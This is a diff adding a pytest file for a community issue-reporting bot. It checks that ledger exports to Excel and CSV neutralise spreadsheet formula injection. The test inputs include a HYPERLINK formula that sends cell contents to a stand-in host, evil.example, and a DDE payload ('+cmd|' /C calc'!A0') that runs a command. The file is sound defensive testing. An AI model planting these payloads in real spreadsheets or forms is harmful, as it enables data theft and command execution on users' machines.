@@ -1,0 +1,116 @@
+"""Hostile and odd input, end to end through the fake Bot API: formulas in ledgers, numbers
+and dates that are not what they look like, forged buttons, invisible reports, /bind with
+a made-up id, and ledgers holding matters in every state."""
+
+from __future__ import annotations
+
+import asyncio
+import csv
+import io
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+from openpyxl import load_workbook
+
+from bot import cli, render
+from bot.config import parse_duration
+from bot.locale import en, zh
+from escalation.policy import State
+from escalation.reports import ledger
+from handlers import report as report_handlers
+from tests.conftest import (
+    C1_CHAT,
+    HEAD1,
+    HEAD2,
+    POLICE,
+    RESIDENT,
+    RESIDENT2,
+    STAFF,
+    STATION_CHAT,
+    TZ,
+    U1_CHAT,
+    U2_CHAT,
+    Running,
+    town,
+)
+
+H = 3600.0
+APOLOGY = zh.MESSAGES["err.internal"]
+EVIL_NAME = '=HYPERLINK("http://evil.example/"&B2,"点我")'
+
+
+def calm_town() -> dict[str, Any]:
+    """Nothing escalates while a test makes its matters."""
+    raw = town()
+    raw["deadlines"]["unit"] = {"claim": "1d", "resolve": "3d"}
+    return raw
+
+
+async def matter(bot: Running, number: int) -> Any:
+    async with bot.svc.store.read() as tx:
+        return await tx.matter(number)
+
+
+async def report(bot: Running, chat: int, user: int, name: str, text: str, number: int) -> Any:
+    bot.api.send_text(chat, bot.api.user(user, name), f"/report {text}")
+    return await bot.wait_bot(chat, f"#{number}")  # the card, in the chat's language
+
+
+def no_apology(bot: Running, *chats: int) -> None:
+    for chat in chats:
+        assert bot.count_bot(chat, APOLOGY) == 0, chat
+
+
+async def exported(bot: Running, chat: int, user: int, command: str) -> Any:
+    bot.clock.advance(60)  # a ledger's period ends now: the matters made just now are in it
+    before = sum(1 for m in bot.api.bot_messages(chat) if m.document_name)
+    bot.say(chat, user, command)
+    await bot.api.wait_for(lambda: sum(1 for m in bot.api.bot_messages(chat) if m.document_name) > before)
+    doc = [m for m in bot.api.bot_messages(chat) if m.document_name][-1]
+    return load_workbook(io.BytesIO(doc.document_bytes or b""))
+
+
+def write_config(tmp_path: Path, raw: dict[str, Any], database: Path) -> Path:
+    config = tmp_path / "config.yaml"
+    config.write_text(yaml.safe_dump({**raw, "database": str(database)}, allow_unicode=True), encoding="utf-8")
+    return config
+
+
+def run_cli(config: Path, out: Path) -> int:
+    return cli.main(["export", "--config", str(config), "--from", "2026-11-24", "--to", "2026-11-24",
+                     "--out", str(out)])
+
+
+# --- 1. formula injection in ledgers ----------------------------------------------------
+async def test_a_ledger_writes_formula_like_text_as_text(make_bot: Any, tmp_path: Path) -> None:
+    database = tmp_path / "formula.sqlite3"
+    async with make_bot(calm_town(), database=database) as bot:
+        await report(bot, U1_CHAT, RESIDENT, EVIL_NAME, "楼道堆放杂物", 1)
+        await report(bot, U1_CHAT, RESIDENT2, "@SUM(A1:A9)", "-2+3 噪音扰民", 2)
+        bot.say(U1_CHAT, HEAD1, "/resolve 1 =1+2")
+        await bot.wait_bot(U1_CHAT, "已解决事项 #1")
+        bot.say(U1_CHAT, HEAD1, "/resolve 2 +cmd|' /C calc'!A0")
+        await bot.wait_bot(U1_CHAT, "已解决事项 #2")
+        await bot.settle()
+        book = await exported(bot, C1_CHAT, POLICE, "/export week")
+    formulas = [c.coordinate for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    rows = list(book["全部事项"].iter_rows(values_only=True))
+    assert rows[1][4] == EVIL_NAME and rows[1][11] == "=1+2"  # kept exactly as typed
+    assert rows[2][4] == "@SUM(A1:A9)" and rows[2][11] == "+cmd|' /C calc'!A0"
+
+    out = tmp_path / "台账.csv"
+    assert await asyncio.to_thread(run_cli, write_config(tmp_path, calm_town(), database), out) == 0
+    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
+    assert rows[1][4] == "'" + EVIL_NAME and rows[1][11] == "'=1+2"
+    assert rows[2][4] == "'@SUM(A1:A9)" and rows[2][11] == "'+cmd|' /C calc'!A0"
+    assert rows[1][1] == "第一村民小组"  # ordinary text is left alone
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe() -> None:
+    for text in ("=1", "+1", "-1", "@x", "\t=1", "\r=1"):
+        assert ledger.csv_cell(text) == "'" + text
+    for value in ("王芳", "1-2", "", 7, None):
+        assert ledger.csv_cell(value) == value
